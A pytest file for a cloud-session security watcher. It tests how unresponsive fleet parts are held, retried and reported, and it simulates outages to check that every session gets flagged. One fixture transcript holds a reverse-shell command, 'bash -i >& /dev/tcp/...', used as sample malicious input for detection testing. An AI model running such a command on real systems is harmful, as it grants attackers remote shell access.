"""A part of the fleet that does not answer: held by its own mark, tried by itself, never skipped, and nobody else waits for it."""

from __future__ import annotations

import os
import random
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from itertools import pairwise

import pytest

from bot.core import flags, parts, watch
from bot.core.ask import Ask
from bot.core.flags import Flag
from bot.core.model import Event, Hit, Kind, Recording, Session, Source, Stream, Unread
from bot.core.parts import Among, Held, Reach
from bot.core.policy import Policy
from bot.core.roles import Role, User
from bot.core.watch import Begun, Look, Own
from bot.store.ledger import Store
from bot.watcher import Limits, Watcher
from commands import _watch
from queries.rulebook import load
from tests.evidence import Fixed, Memory
from tests.test_store import _postgres, _url  # noqa: F401 - the stores, by their own names

NOW = datetime(2026, 11, 23, 9, 5, tzinfo=UTC)
HERE, THERE = "111122223333/eu-west-1", "444455556666/us-east-1"
RULES = load()


def source(backend="ssm", question="active sessions", read=(HERE, THERE), unread=()):
    return Source(backend, question, read=read, unread=tuple(Unread(place, "It is down.") for place in unread))


@dataclass
class Stage:
    """A watcher on a store, whose looks are what the test says; `asked` are the spans and parts of each."""

    store: Store
    answer: object = None
    now: datetime = NOW
    asked: list = field(default_factory=list)
    said: list[str] = field(default_factory=list)

    def look(self, now, span, trail, known, unread, among, *, wide):
        self.asked.append((among, span))
        return self.answer(among)

    def watcher(self):
        return Watcher(
            (flags.route("#sec: high tunnels"),),
            self.store,
            self.look,
            lambda now, known: Look(()),
            lambda: self.now,
            Limits(),
            lambda about, why: self.said.append(why),
        )

    def after(self, minutes, watcher):
        self.now = NOW + timedelta(minutes=minutes)
        self.asked.clear()
        watcher.once()
        return [(among.only, span.since) for among, span in self.asked]


@pytest.fixture(name="stage")
def _stage(url):
    store = Store(url)
    store.advance(watch.NAME, NOW)
    yield Stage(store)
    store.close()


def without(*down, begun=()):
    """What a look sees while these parts are down."""

    def answer(among):
        every = [parts.part(parts.SESSIONS, HERE), parts.part(parts.SESSIONS, THERE), parts.part(parts.TRAIL, HERE)]
        asked = [each for each in every if among.takes(*parts.parted(each))]
        bad = {each: "It is down." for each in asked if each in down}
        return Look((), reach=Reach(frozenset(asked) - bad.keys(), bad, tuple(bad)), begun=begun)

    return answer


GONE = parts.part(parts.SESSIONS, THERE)


def test_a_part_that_fails_is_held_and_the_others_go_on(stage):
    stage.answer = without(GONE)
    watcher = stage.watcher()
    stage.after(3, watcher)
    assert NOW + timedelta(minutes=3) == stage.store.watermark(watch.NAME)
    assert [(GONE, NOW)] == [(each.part, each.until) for each in stage.store.held()]


def test_a_held_part_is_looked_at_by_itself_from_its_own_mark(stage):
    stage.answer = without(GONE)
    watcher = stage.watcher()
    stage.after(3, watcher)
    [(_, _), (only, since)] = stage.after(6, watcher)
    assert (GONE, NOW - watch.OVERLAP) == (only, since)
    assert frozenset({GONE}) == stage.asked[0][0].without


def test_it_is_tried_more_seldom_while_it_is_silent_and_from_the_same_mark(stage):
    stage.answer = without(GONE)
    watcher = stage.watcher()
    tries = [minutes for minutes in range(3, 600, 3) if GONE in [only for only, _ in stage.after(minutes, watcher)]]
    gaps = [b - a for a, b in pairwise(tries)]
    assert (sorted(gaps), NOW) == (gaps, stage.store.held()[0].until)
    assert 30 <= gaps[-1] <= 51


def test_a_part_that_answers_again_is_released(stage):
    stage.answer = without(GONE)
    watcher = stage.watcher()
    stage.after(3, watcher)
    stage.answer = without()
    stage.after(9, watcher)
    assert () == stage.store.held()
    assert [""] == [only for only, _ in stage.after(12, watcher)]


def test_a_part_that_was_silent_for_days_is_caught_up_with_in_strides(stage):
    stage.store.hold_part(Held(GONE, NOW - timedelta(days=3), NOW - timedelta(days=3), "down", 9, NOW - timedelta(days=1)))
    stage.answer = without()
    watcher = stage.watcher()
    marks = []
    for minutes in (3, 6, 9, 12):
        stage.after(minutes, watcher)
        marks += [each.until for each in stage.store.held()]
    assert [NOW - timedelta(days=2), NOW - timedelta(days=1), NOW] == marks
    assert () == stage.store.held()


def test_where_nothing_at_all_is_read_all_waits_and_nothing_is_held(stage):
    stage.answer = without(GONE, parts.part(parts.SESSIONS, HERE), parts.part(parts.TRAIL, HERE))
    stage.after(3, stage.watcher())
    assert (NOW, ()) == (stage.store.watermark(watch.NAME), stage.store.held())


def test_after_an_outage_the_watch_goes_on_in_strides_and_skips_nothing(stage):
    stage.store.release_part(GONE)
    stage.answer = without()
    watcher = stage.watcher()
    spans = []
    for minutes in (0, 3, 6, 9):
        stage.after(60 * 24 * 2.5 + minutes, watcher)
        spans += [(span.since, span.until) for _, span in stage.asked]
    assert all(until >= since for (_, until), (since, _) in pairwise(spans))
    assert stage.now == stage.store.watermark(watch.NAME)


def test_a_place_that_is_no_longer_configured_is_let_go_and_that_is_told(stage):
    stage.store.hold_part(Held("log groups of 777788889999/eu-west-1", NOW, NOW, "down", 1, NOW))
    stage.answer = lambda among: Look((), reach=Reach(frozenset({GONE} if not among.only else ())))
    stage.after(6, stage.watcher())
    assert () == stage.store.held()
    assert any("not configured any more" in why for why in stage.said)


def test_what_fails_beside_a_held_part_is_held_by_itself(stage):
    groups = parts.part(parts.GROUPS, THERE)
    stage.store.hold_part(Held(GONE, NOW, NOW, "down", 1, NOW))
    stage.answer = lambda among: Look((), reach=Reach(frozenset({GONE}), {groups: "No such group."} if among.only else {}))
    stage.after(6, stage.watcher())
    assert [(groups, NOW)] == [(each.part, each.until) for each in stage.store.held()]


def test_sessions_that_others_saw_begin_there_are_counted(stage):
    table = parts.part(parts.TRAIL, HERE)
    begun = (Begun(HERE, NOW + timedelta(minutes=4), in_trail=False), Begun(HERE, NOW + timedelta(minutes=5), in_trail=True))
    stage.answer = without(table)
    watcher = stage.watcher()
    stage.after(3, watcher)
    stage.answer = without(table, begun=begun)
    stage.after(6, watcher)
    assert [1] == [each.waiting for each in stage.store.held()]


def test_an_hour_of_silence_is_told(stage):
    stage.answer = without(GONE)
    watcher = stage.watcher()
    for minutes in range(3, 120, 3):
        stage.after(minutes, watcher)
    assert any(why.startswith("Session Manager of 444455556666/us-east-1 has not answered for 1 h") for why in stage.said)


def test_a_look_that_breaks_on_one_part_keeps_no_other_from_being_tried(stage):
    for name in (GONE, parts.part(parts.TRAIL, HERE)):
        stage.store.hold_part(Held(name, NOW, NOW, "down", 1, NOW))

    def answer(among):
        if among.only == GONE:
            raise ZeroDivisionError
        return without()(among)

    stage.answer = answer
    stage.after(6, stage.watcher())
    assert [(GONE, 2)] == [(each.part, each.tries) for each in stage.store.held()]


def test_a_look_that_was_cut_is_repeated_in_shorter_strides(stage):
    stage.answer = lambda among: replace(without()(among), cut=(stage.asked[-1][1].until - stage.asked[-1][1].since) > timedelta(hours=13))
    watcher = stage.watcher()
    for minutes in range(0, 60, 3):
        stage.after(60 * 24 + minutes, watcher)
    assert stage.now == stage.store.watermark(watch.NAME)
    assert not any("more up to" in why for why in stage.said)


def test_a_flag_that_could_not_be_stored_is_seen_again(stage, monkeypatch):
    """The mark waits for it; after an hour the admins are told, and the watch goes on."""
    session = Session("ana@example.com-0e34861185201706f", kind=Kind.TUNNEL, started=NOW, account="111122223333", region="eu-west-1")
    stage.answer = lambda among: replace(without()(among), flags=flags.flags([session], (), {}, NOW))
    monkeypatch.setattr(stage.store, "raise_flag", lambda *_: 1 / 0)
    watcher = stage.watcher()
    stage.after(3, watcher)
    assert (NOW, []) == (stage.store.watermark(watch.NAME), stage.said)
    stage.after(66, watcher)
    assert stage.now == stage.store.watermark(watch.NAME)
    assert any("cannot be stored" in why for why in stage.said)


def test_a_deep_look_that_did_not_count_is_made_again(stage, monkeypatch):
    """What it found could not be stored: the day's deep look is still to come."""
    session = Session("ana@example.com-0e34861185201706f", kind=Kind.TUNNEL, started=NOW, account="111122223333", region="eu-west-1")
    stage.answer = without()
    watcher, deep = stage.watcher(), []
    trails = []
    stage.look = lambda now, span, trail, known, unread, among, *, wide: (trails.append(span.since - trail.since), stage.answer(among))[1]
    watcher.look = stage.look
    stage.after(3, watcher)
    stage.answer = lambda among: replace(without()(among), flags=flags.flags([session], (), {}, NOW))
    with monkeypatch.context() as broken:
        broken.setattr(stage.store, "raise_flag", lambda *_: 1 / 0)
        stage.after(60 * 24, watcher)
    for minutes in (3, 6):
        stage.after(60 * 24 + minutes, watcher)
    deep = [bool(each) for each in trails]
    assert [False, True, True, False] == deep


def test_logs_that_wait_hold_the_mark(stage):
    stage.answer = lambda among: replace(without()(among), more=True, logs=("ana-1",))
    stage.after(3, stage.watcher())
    assert (NOW, {"ana-1"}) == (stage.store.watermark(watch.NAME), stage.store.counted_before(watch.NAME, ["ana-1", "ana-2"]))


def test_an_older_store_gets_the_table_of_held_parts(url):
    """A store of a program that knew none: nothing is lost, and the table is there."""
    from sqlalchemy import create_engine, make_url, text

    if url == "sqlite://":
        pytest.skip("memory forgets")
    old = Store(url)
    old.advance(watch.NAME, NOW)
    old.close()
    driver = "postgresql+psycopg" if url.startswith("postgresql") else "sqlite"
    engine = create_engine(make_url(url).set(drivername=driver))
    with engine.begin() as connection:
        connection.execute(text("DROP TABLE held"))
    engine.dispose()
    store = Store(url)
    store.hold_part(Held(GONE, NOW, NOW, "down", 1, None, 2))
    assert (NOW, (Held(GONE, NOW, NOW, "down", 1, None, 2),)) == (store.watermark(watch.NAME), store.held())
    store.close()


@pytest.mark.parametrize(
    ("among", "kind", "place", "taken"),
    [
        pytest.param(Among(), parts.GROUPS, HERE, True, id="everything"),
        pytest.param(Among(without=frozenset({GONE})), parts.GROUPS, THERE, False, id="a place without Session Manager is left out whole"),
        pytest.param(Among(without=frozenset({GONE})), parts.TRAIL, THERE, True, id="but not the table that lies there"),
        pytest.param(Among(GONE, frozenset({GONE})), parts.GROUPS, THERE, True, id="and looked at whole when it is tried"),
        pytest.param(Among(GONE, frozenset({GONE})), parts.SESSIONS, HERE, False, id="it alone"),
        pytest.param(Among(parts.part(parts.TRAIL, HERE)), parts.DOCUMENTS, THERE, True, id="a table is understood by every place's documents"),
        pytest.param(Among(parts.part(parts.TRAIL, HERE)), parts.TRAIL, THERE, False, id="one table"),
        pytest.param(Among("Session Manager of data/us-east-1"), parts.SESSIONS, THERE, False, id="another's name"),
    ],
)  # fmt: skip
def test_what_is_asked(among, kind, place, taken):
    assert taken is among.takes(kind, place)


def test_a_post_goes_by_its_scopes_name_before_its_account_is_known():
    assert Among("Session Manager of data/us-east-1").takes(parts.SESSIONS, THERE, "data/us-east-1")
    assert not Among(without=frozenset({"Session Manager of data/us-east-1"})).takes(parts.SESSIONS, THERE, "data/us-east-1")


def test_only_the_first_failures_are_blamed():
    """A place that hangs uses up the time, and then every later question fails everywhere."""
    seen = parts.reach([source(), source(unread=(THERE,), read=(HERE,)), source("insights", "risky linux", (), (HERE, THERE))])
    assert ((GONE,), 3) == (seen.blamed, len(seen.unread))


def test_a_place_that_answered_in_part_holds_nothing_back():
    seen = parts.reach([source("insights", "risky linux", (HERE,), (HERE,)), source("ec2", "nodes", (), (THERE,))])
    assert ({}, {"log groups of 111122223333/eu-west-1": "It is down."}) == (seen.unread, seen.odd)


def told(*held):
    from commands.status import COMMAND

    ledger = Memory(marks={watch.NAME: NOW}, done={"clock": (NOW, {}), watch.NAME: (NOW, {})}, parts=held)
    ask = Ask(User("U1", "ana", "UTC"), "status", NOW + timedelta(minutes=1), Role.VIEWER, Policy(watching=True), "C1", "slash")
    return COMMAND.run(ask, Fixed(), ledger).text


def test_status_names_the_part_that_holds_back_and_since_when_and_what_waits():
    silent = Held(parts.part(parts.TRAIL, HERE), NOW - timedelta(hours=2), NOW - timedelta(hours=2), "The query was throttled", 4, NOW, 3)
    expected = (
        "1 thing is not well: CloudTrail of 111122223333/eu-west-1 has not answered for 2 h 1 min: looked at up to Mon 23 Nov 07:05 UTC;"
        " 3 sessions begun there since then are not looked at. The query was throttled."
    )
    assert told(silent).startswith(expected)
    assert told().startswith("All is well.")


def test_status_counts_the_logs_that_could_not_be_read():
    lost = [Held(f"the log of ana-{n} in {HERE}", NOW, NOW, "Access denied", 1, NOW) for n in range(3)]
    assert "The log of ana-0 in 111122223333/eu-west-1 has not answered for 1 min: Access denied and 2 more logs." in told(*lost)


# A fleet with a life of its own: sessions of three places, recorded by two tables, delivered late, and everything fails now and then.

PLACES = ("111122223333/eu-west-1", "111122223333/us-east-1", "444455556666/eu-west-1")
TABLES = {PLACES[0]: PLACES[:2], PLACES[2]: PLACES[2:]}
STEP, DAYS = timedelta(minutes=30), 2
ARN = "arn:aws:sts::{}:assumed-role/Ops/ana@example.com"
EVIL = b"Script started on 2026-11-23 09:00:00+00:00\nsh-5.2$ bash -i >& /dev/tcp/198.51.100.50/4444 0>&1\r\r\nsh-5.2$ exit\r\r\n"


@dataclass(frozen=True)
class Life:
    """One session and when each source comes to know it. `way`: tunnel, stored (its log in S3), streamed, or call (CloudTrail only)."""

    session: Session
    way: str
    delivered: datetime
    logged: datetime

    @property
    def flag(self):
        return f"event {self.session.event}" if self.way == "call" else self.session.id


@dataclass
class World:
    """What is true, and what is down when: `downs` are (kind, place, since, until)."""

    lives: list[Life]
    downs: list[tuple]
    now: datetime = NOW

    def down(self, kind, place):
        return any((kind, place) == (k, p) and since <= self.now < until for k, p, since, until in self.downs)


class Fleet:
    """Evidence of a world, of some parts only."""

    def __init__(self, world, among=None, asked=None):
        self.world, self.parts, self._asked = world, among or Among(), [] if asked is None else asked

    @property
    def asked(self):
        return tuple(self._asked)

    def among(self, some):
        return Fleet(self.world, some, self._asked)

    def _ask(self, kind, backend, question, places=PLACES):
        wanted = [place for place in places if self.parts.takes(kind, place)]
        down = [place for place in wanted if self.world.down(kind, place)]
        read = tuple(place for place in wanted if place not in down)
        self._asked.append(Source(backend, question, read=read, unread=tuple(Unread(place, "down") for place in down)))
        return read

    def _began(self, places, span=None):
        for life in self.world.lives:
            s = life.session
            if (
                life.way != "call"
                and str(s.place) in places
                and s.started <= self.world.now
                and (not span or span.since <= s.started < span.until)
            ):
                over = s.ended <= self.world.now
                yield replace(s, ended=s.ended if over else None, status="Terminated" if over else "Connected", origin="ssm")

    def live(self):
        return tuple(s for s in self._began(self._ask(parts.SESSIONS, "ssm", "active sessions")) if not s.ended)

    def ended(self, span):
        return tuple(s for s in self._began(self._ask(parts.SESSIONS, "ssm", "ended sessions"), span) if s.ended)

    def session(self, name):
        return tuple(s for s in self._began(self._ask(parts.SESSIONS, "ssm", "one session")) if s.id == name)

    def documents(self):
        self._ask(parts.DOCUMENTS, "ssm", "session documents")
        return ()

    def nodes(self, wanted):
        return {}

    def _trail(self, question, span, way):
        tables = self._ask(parts.TRAIL, "athena", question, TABLES)
        covered = {place for table in tables for place in TABLES[table]}
        return [
            life for life in self.world.lives
            if way(life) and str(life.session.place) in covered and life.delivered <= self.world.now and span.since <= life.session.started < span.until
        ]  # fmt: skip

    def openings(self, span, where):
        found = self._trail("audit", span, lambda life: life.way != "call")
        return tuple(replace(life.session, ended=None, origin="cloudtrail") for life in found)

    def tunnels(self, span, documents, where):
        found = self._trail("tunnels", span, lambda life: life.way == "tunnel")
        return tuple(replace(life.session, ended=None, origin="cloudtrail") for life in found)

    def events(self, span, where):
        found = self._trail("events", span, lambda life: life.way == "call")
        return tuple(
            Event(s.event, s.started, "cloudtrail.amazonaws.com", "StopLogging", s.owner, account=s.account, region=s.region)
            for s in (life.session for life in found)
        )

    def _logs(self, kind, backend, question, span, way):
        places = self._ask(kind, backend, question)
        return [
            life for life in self.world.lives
            if life.way == way and str(life.session.place) in places and life.logged <= self.world.now and span.since <= life.logged < span.until
        ]  # fmt: skip

    def hits(self, span, patterns, question):
        found = self._logs(parts.GROUPS, "insights", question, span, "streamed") if question == "risky linux" else ()
        return tuple(Hit(s.id, life.logged, "bash -i", account=s.account, region=s.region) for life in found if (s := life.session))

    def stored(self, span):
        found = self._logs(parts.STORED, "s3", "stored", span, "stored")
        return tuple(Stream(s.id, life.logged, life.logged, 100, "s3://x", s.account, s.region) for life in found if (s := life.session))

    def streams(self, span, limit):
        return ()

    def transcript(self, session):
        life = next(each for each in self.world.lives if each.session.id == session.id)
        place = str(life.session.place)
        down = self.world.down(parts.TRANSCRIPTS, place)
        self._asked.append(Source("s3", "transcript", read=() if down else (place,), unread=(Unread(place, "down"),) if down else ()))
        missing = "down" if down else "" if life.logged <= self.world.now and life.way in ("stored", "streamed") else "not there"
        return Recording(session.id, b"" if missing else EVIL, "file", missing=missing)


def life(dice, number):
    account, _, region = dice.choice(PLACES).partition("/")
    began = NOW + timedelta(minutes=dice.randrange(60, DAYS * 24 * 60))
    way = dice.choice(("tunnel", "stored", "streamed", "call", "tunnel"))
    late = dice.choices((dice.uniform(1, 15), dice.uniform(15, 360), dice.uniform(360, 1440)), (8, 3, 2))[0]
    ended = began + timedelta(minutes=dice.randrange(1, 200))
    kind = Kind.TUNNEL if way == "tunnel" else Kind.SHELL
    session = Session(
        f"ana@example.com-{number:026d}", ARN.format(account), "i-0a1b2c3d4e5f60718", began, ended, document="", kind=kind, account=account, region=region,
        event=f"e{number}",
    )  # fmt: skip
    logged = {"stored": ended + timedelta(minutes=1), "streamed": began + timedelta(minutes=1)}.get(way, ended)
    return Life(session, way, began + timedelta(minutes=late), logged)


def outage(dice):
    kind = dice.choice((parts.SESSIONS, parts.TRAIL, parts.GROUPS, parts.STORED, parts.TRANSCRIPTS, parts.DOCUMENTS))
    place = dice.choice(tuple(TABLES) if kind == parts.TRAIL else PLACES)
    since = NOW + timedelta(minutes=dice.randrange(0, DAYS * 24 * 60))
    return kind, place, since, since + timedelta(minutes=dice.choice((10, 90, 600, 2400)))


class Shaky:
    """A store that sometimes breaks as a flag is stored."""

    def __init__(self, store, dice):
        self._store, self._dice, self.raised = store, dice, []

    def raise_flag(self, flag: Flag, shown, at):
        if self._dice.random() < 0.02:
            raise OSError("the disk is full")
        self._store.raise_flag(flag, shown, at)
        self.raised.append(flag.id)

    def __getattr__(self, name):
        return getattr(self._store, name)


@pytest.mark.parametrize("seed", range(int(os.environ.get("WATCH_RUNS", "6"))))
def test_every_session_is_judged_whatever_fails_and_however_late(seed):
    """Random outages of every kind, records up to a day late, a store and looks that break, restarts and pauses of the watch: one flag each, none lost."""
    dice = random.Random(seed)
    world = World([life(dice, n) for n in range(40)], [outage(dice) for _ in range(10)])
    store = Store("sqlite://")
    store.advance(watch.NAME, NOW)
    shaky, policy, said = Shaky(store, dice), Policy(rules=RULES), []

    def look(now, span, trail, known, unread, among, *, wide):
        if dice.random() < 0.01:
            raise ZeroDivisionError
        evidence, ask = Fleet(world), Ask(User("clock", "watch", "UTC"), "watch", now, Role.VIEWER, policy, via="clock")
        if among.only.startswith(parts.LOG):
            return _watch.again(ask, evidence, *parts.session_of(among.only))
        return _watch.look(ask, evidence.among(among), span, trail, known, Own(), unread, wide=wide)

    def watcher():
        told = lambda about, why: said.append(why)  # noqa: E731
        return Watcher(
            (flags.route("#sec: high tunnels"),),
            shaky,
            look,
            lambda now, known: Look(()),
            lambda: world.now,
            Limits(STEP, 1e9, 10**6),
            told,
        )

    running, pause = watcher(), 0
    while world.now < NOW + timedelta(days=DAYS + 3):
        world.now += STEP
        pause = pause - 1 if pause else dice.choice((0,) * 80 + (4, 60))
        if pause:
            running = watcher()
            continue
        try:
            running.once()
        except ZeroDivisionError:
            running = watcher()
    expected = sorted(each.flag for each in world.lives)
    posted = sorted(post.key.removeprefix("flag/#sec/") for post in store.due() if post.key.startswith("flag/"))
    assert expected == posted
    assert () == store.held()
    assert not any("not configured" in why or "one look can take" in why for why in said)
    store.close()
